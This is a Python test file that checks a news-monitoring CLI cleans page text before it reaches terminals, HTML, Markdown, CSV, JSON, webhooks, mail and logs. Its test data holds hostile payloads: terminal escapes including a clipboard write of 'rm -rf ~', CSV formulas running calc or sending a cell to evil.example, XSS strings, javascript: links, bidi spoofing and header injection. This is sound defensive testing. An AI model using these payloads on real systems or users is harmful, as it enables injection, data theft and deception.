"""Whatever a page wrote leaves the program as text, by each way out: out of a real database, by the real commands."""

import csv
import io
import json
import logging
import re
import sys
from dataclasses import replace
from pathlib import Path
from types import ModuleType
from typing import Any

import httpx
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console
from selectolax.lexbor import LexborHTMLParser

from monitor import channels, cli, plain, show
from monitor.model import Alert, Channel, Delivery, DeliveryId, Entry, SourceState
from monitor.store import Store

from .room import DESK, NOW, STORY, Room, telling

HOSTILE = {
    "clears the screen": "\x1b[2J\x1b[H",
    "sets the title": "\x1b]0;owned\x07",
    "hides an address": "\x1b]8;;https://evil.example/\x07the bank\x1b]8;;\x07",
    "writes the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "eight-bit controls": "\x9b2J\x9d0;owned\x9c\x85",
    "bell, backspace, delete": "\x07\x08\x7f",
    "carriage return over the line": "paid\rfired",
    "zero byte": "fi\x00red",
    "a line of its own": "Fired\n2026-01-01 00:00:00 INFO stopped",
    "a header of its own": "Fired\r\nBcc: everybody@example.org\r\n\r\nbody",
    "separators of lines": "fired\u2028said\u2029he\x0bsaid\x0c",
    "bidi override": "\u202egnp.exe\u202c",
    "bidi isolate": "\u2067fired\u2069\u2066",
    "bidi marks": "\u200ffired\u200e\u061c",
    "bidi of old": "\u206afired\u206f",
    "no width": "fi\u200bred\u2060\ufeff\xad",
    "joined": "fi\u200d\u200cred",
    "written in tags": "fired\U000e0041\U000e0042",
    "blank letters": "\u3164\u115f\uffa0fired",
    "half a letter": "fired \ud83d",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"more")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-1+1",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a line end": "\r=1+1",
    "formula behind a blank": " \u200b=1+1",
    "formula in wide letters": "＝1+1",
    "formula in the next cell": "fired;=1+1",
    "quotes and commas": 'fi"",""red,"',
    "script": "<script>alert(1)</script>",
    "a way out of an attribute": '" onmouseover="alert(1)" x="',
    "a way out of a title": "</title></style><img src=x onerror=alert(1)>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "markdown": "[the bank](https://evil.example/) ![x](https://evil.example/x.png) **fired** `x` ~~y~~ $z$",
    "a heading": "# fired",
    "a list": "1. fired",
    "a line": "---",
    "an address in brackets": "<https://evil.example/>",
    "calls everybody": "<!channel> <!everyone> @everyone @here <@U024BE7LH> <https://evil.example/|the bank>",
    "very long": "fired " * 10_000,
    "one long word": "f" * 60_000,
}
TEXTS = {name: f"{text} END" for name, text in HOSTILE.items()}
LINKS = {
    "script": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "out of the attribute": 'https://a.example/" onmouseover="alert(1)',
    "out of the brackets": "https://a.example/>) <b> `x` \\",
    "controls": "https://a.example/\x1b[2J\u202e",
    "calls everybody": "https://a.example/@everyone/@here",
}


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a config file, and a database in which each hostile text is wherever a page's text can be."""
    folder = tmp_path_factory.mktemp("home")
    room = Room(folder / "monitor.db")
    room.follow(replace(STORY, alerts_per_hour=0))
    for number, (name, text) in enumerate(TEXTS.items()):
        said = storable(text)
        told = Alert("mill", "new-development", said, said, said, f"https://a{number}.example/story", said)
        fields: dict[str, Any] = {"title": said, "publisher": said, "author": said}
        room.tell(f"a{number}", said, text=said, **fields)
        room.file(f"b{number}", telling(said, told), text=said, **fields)
        room.show(Entry(f"https://news.example/{number}", title=said, summary=name))
    room.show(state=SourceState.FAILING, why=" ".join(storable(text)[:200] for text in TEXTS.values()))
    room.run("UPDATE alerts SET summary = headline")
    room.run("UPDATE alerts SET url = 'javascript:alert(1)' WHERE id % 5 = 0")
    room.store.close()
    (folder / "config.toml").write_text(
        '[monitor]\ndatabase = "monitor.db"\n[[topics]]\nname = "Mill fire"\nslug = "mill"\nabout = "mill"\n'
        'feeds = ["https://news.example/rss"]\n'
    )
    return folder


def storable(text: str) -> str:
    """Return text without halves of letters, which no database takes and the parser replaces."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


def squeezed(text: str) -> str:
    return " ".join(text.split())


def run(home: Path, *words: str) -> str:
    result = CliRunner().invoke(cli.main, [*words, "--config", str(home / "config.toml")])
    assert result.exit_code == 0, result.output
    return result.stdout


COMMANDS = {
    "alerts": ("alerts",),
    "the timeline": ("timeline", "mill"),
    "the timeline in Markdown": ("timeline", "mill", "--format", "md"),
    "the timeline in HTML": ("timeline", "mill", "--format", "html"),
    "the timeline in CSV": ("timeline", "mill", "--format", "csv"),
    "the timeline in JSON": ("timeline", "mill", "--format", "json"),
    "why an address": ("why", "https://a3.example/story"),
    "why an entry": ("why", "https://news.example/3"),
    "why an alert": ("why", "4"),
    "why, in JSON": ("why", "4", "--json"),
    "topics": ("topics",),
    "sources": ("sources",),
    "status": ("status",),
    "alerts in JSON": ("alerts", "--all", "--json"),
    "sources in JSON": ("sources", "--json"),
}


@pytest.mark.parametrize("on_terminal", [True, False], ids=["terminal", "pipe"])
@pytest.mark.parametrize("command", COMMANDS)
def test_no_command_prints_what_a_terminal_obeys(
    home: Path, command: str, on_terminal: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    drawn = io.StringIO()
    if on_terminal:
        screen = Console(file=drawn, force_terminal=True, color_system=None, width=100)
        monkeypatch.setattr(show, "terminal", lambda: screen)
    out = run(home, *COMMANDS[command]) + drawn.getvalue()
    assert "END" in out or command in ("topics", "status")
    assert not plain.UNSAFE.search(out.replace("\r\n", "\n").replace("\t", " "))  # CSV's line ends, a pipe's tabs


@pytest.mark.parametrize("words", [("alerts",), ("timeline", "mill"), ("why", "4")], ids=lambda words: words[0])
def test_no_text_begins_a_line(home: Path, words: tuple[str, ...]) -> None:
    assert not [line for line in run(home, *words).split("\n") if line.startswith(("2026-01-01 00", "Bcc:"))]


def test_html_is_one_page_with_the_texts_in_it(home: Path) -> None:
    tree = LexborHTMLParser(run(home, "timeline", "mill", "--format", "html"))
    assert not tree.css("script, img, iframe, object, link, base, form, svg")
    nodes = tree.css("*")
    assert not [name for node in nodes for name in node.attributes if name.startswith("on")]
    links = {node.attributes["href"] for node in tree.css("a")}
    assert all(re.fullmatch(r"(https://[ab]\d+\.example/story)?", link or "") for link in links)
    shown = {squeezed(node.text()) for node in tree.css("blockquote")}
    assert {squeezed(plain.line(storable(text))) for text in TEXTS.values()} <= shown


def test_markdown_shows_the_texts_and_nothing_of_them_is_markup(home: Path) -> None:
    out = run(home, "timeline", "mill", "--format", "md")
    bare = re.sub(r"\\[!-/:-@\[-`{-~]", "", out)
    assert not re.search(r"<(?!https://[ab]\d+\.example/story>)", bare)
    assert set(re.findall(r"\]\(<(.*?)>\)", bare)) <= {
        f"https://{letter}{number}.example/story" for letter in "ab" for number in range(len(TEXTS))
    }
    assert all(re.match(r"- \*\*\d|  (> |\[|[^\s>#\d=+-])|# |$", line) for line in bare.split("\n"))


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_cell_is_a_formula(home: Path, delimiter: str) -> None:
    out = (
        run(home, "timeline", "mill", "--format", "csv").replace("f" * 60_000, "f").replace("fired " * 10_000, "fired ")
    )
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter=delimiter))
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(tuple("=+-@＝＋－＠"))]
    if delimiter == ",":
        assert {len(row) for row in rows} == {10}


def test_json_is_ascii_and_whole(home: Path) -> None:
    out = run(home, "alerts", "--all", "--json")
    assert out.isascii()
    assert {storable(text) for text in TEXTS.values()} <= {row["whats_new"] for row in json.loads(out)}


# -------------------------------------------------------------------------------------------------- to the channels


@pytest.fixture(scope="module")
def deliveries(home: Path) -> list[Delivery]:
    """What waits for the channel, and an alert with halves of letters, which no database would hold."""
    store = Store.open(home / "monitor.db")
    found = list(store.outbox(NOW, 1_000))
    store.close()
    half = {"headline": HOSTILE["half a letter"], "whats_new": "\ud83d", "why": None, "url": None}
    return [*found, Delivery(DeliveryId(9_999), "desk", "key", 0, half)]


async def test_a_webhook_gets_ascii_json_with_the_texts_whole(deliveries: list[Delivery]) -> None:
    got: list[httpx.Request] = []

    def answer(request: httpx.Request) -> httpx.Response:
        got.append(request)
        return httpx.Response(204)

    async with httpx.AsyncClient(transport=httpx.MockTransport(answer)) as client:
        for delivery in deliveries:
            await channels.send(DESK, [delivery], client, lambda: NOW)
    assert all(request.content.isascii() for request in got)
    assert not any(plain.UNSAFE.search(str(request.headers)) for request in got)
    said = {json.loads(request.content)["alert"]["whats_new"] for request in got}
    assert {storable(text) for text in TEXTS.values()} <= said


class Apprise(ModuleType):
    """Stands in for the library: keeps what it is asked to send."""

    NotifyFormat = type("NotifyFormat", (), {"TEXT": "text"})

    def __init__(self) -> None:
        super().__init__("apprise")
        self.sent: list[dict[str, Any]] = []

    def AppriseAsset(self, **_: object) -> object:
        return object()

    def Apprise(self, asset: object) -> "Apprise":
        return self

    def add(self, address: str) -> bool:
        return True

    def notify(self, **message: Any) -> bool:
        self.sent.append(message)
        return True


async def test_mail_and_chat_get_text_that_calls_nobody(
    deliveries: list[Delivery], monkeypatch: pytest.MonkeyPatch
) -> None:
    apprise = Apprise()
    monkeypatch.setitem(sys.modules, "apprise", apprise)
    channel = Channel("phone", apprise="mailto://desk.example")
    async with httpx.AsyncClient(verify=False) as client:  # noqa: S501  it speaks to nobody
        for delivery in deliveries:
            await channels.send(channel, [delivery], client, lambda: NOW)
        await channels.send(channel, deliveries, client, lambda: NOW)
    assert len(apprise.sent) == len(deliveries) + 1
    for message in apprise.sent:
        assert message["body_format"] == "text"
        assert not re.search(r"[\r\n]", message["title"]) and len(message["title"]) <= channels.LONGEST_SUBJECT
        for text in (message["title"], message["body"]):
            text.encode()
            assert not plain.UNSAFE.search(text)
            assert not re.search(r"[<>@]|\]\(", text)


# -------------------------------------------------------------------------------------------------------- elsewhere


@pytest.mark.parametrize("name", HOSTILE)
def test_a_log_line_cannot_pass_for_another(name: str) -> None:
    record = logging.LogRecord("monitor", logging.INFO, __file__, 1, "alert: %s", (HOSTILE[name],), None)
    written = show.PlainFormatter("%(asctime)s %(levelname)s %(message)s").format(record)
    first, *more = written.split("\n")
    assert " INFO alert: " in first
    assert all(line.startswith("    ") for line in more)
    assert not plain.UNSAFE.search(written)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_json_log_is_an_object_a_line(name: str) -> None:
    fault = ValueError(HOSTILE[name])
    trouble = (ValueError, fault, None)
    record = logging.LogRecord("monitor", logging.ERROR, "", 1, "alert: %s", (HOSTILE[name],), trouble)
    written = show.JsonFormatter().format(record)
    assert written.isascii()
    assert len(written.splitlines()) == 1
    told = json.loads(written)
    assert list(told) == ["time", "level", "logger", "message", "traceback"]
    assert (told["level"], told["logger"]) == ("error", "monitor")
    assert told["message"].startswith("alert: ")
    assert told["traceback"].startswith("ValueError")
    assert not plain.UNSAFE.search(told["message"] + told["traceback"])


@pytest.mark.parametrize("name", LINKS)
def test_an_address_stays_between_its_brackets(name: str) -> None:
    url = plain.link(LINKS[name])
    assert not url or url.startswith("https://a.example/")
    assert not re.search(r"[\s<>\"\\`]", url) and not plain.UNSAFE.search(url)
    assert channels.as_text({"url": LINKS[name]}).isprintable() and "@" not in channels.as_text({"url": LINKS[name]})


@pytest.mark.parametrize("name", HOSTILE)
def test_what_a_replay_writes_is_json_a_line(home: Path, name: str, tmp_path: Path) -> None:
    page = {
        "id": "1",
        "url": "https://a.example/1",
        "published": "2026-01-01",
        "title": HOSTILE[name],
        "text": TEXTS[name],
    }
    (tmp_path / "in.jsonl").write_text(json.dumps(page))
    run(home, "replay", "--articles", str(tmp_path / "in.jsonl"), "--decisions", str(tmp_path / "out.jsonl"))
    out = (tmp_path / "out.jsonl").read_bytes()
    assert out.isascii() and [json.loads(line)["id"] for line in out.splitlines()] == ["1"]


WAYS = {
    "line": plain.line,
    "lines": plain.lines,
    "html": plain.html,
    "markdown": plain.markdown,
    "cell": plain.cell,
    "chat": plain.chat,
    "link": plain.link,
}


@pytest.mark.parametrize("way", WAYS)
@given(text=st.text(st.characters(exclude_categories=())))
def test_no_way_lets_anything_through_that_is_obeyed(way: str, text: str) -> None:
    assert not plain.UNSAFE.search(WAYS[way](text))


LEFT = {
    "joiners of Persian": "می‌خواهم",
    "joiners of Hindi": "क्‍ष",
    "emoji of several": "👩‍🚒 said ✌️",
    "accents": "Ça coûte 5 € à Zürich",
    "Chinese": "阿里巴巴：“不会。”",
    "signs": "a < b & c > d; 50% – “so” it's #1",
}


@pytest.mark.parametrize("name", LEFT)
def test_what_harms_nobody_is_left_as_it_is(name: str) -> None:
    assert plain.line(LEFT[name]) == plain.lines(LEFT[name]) == LEFT[name]
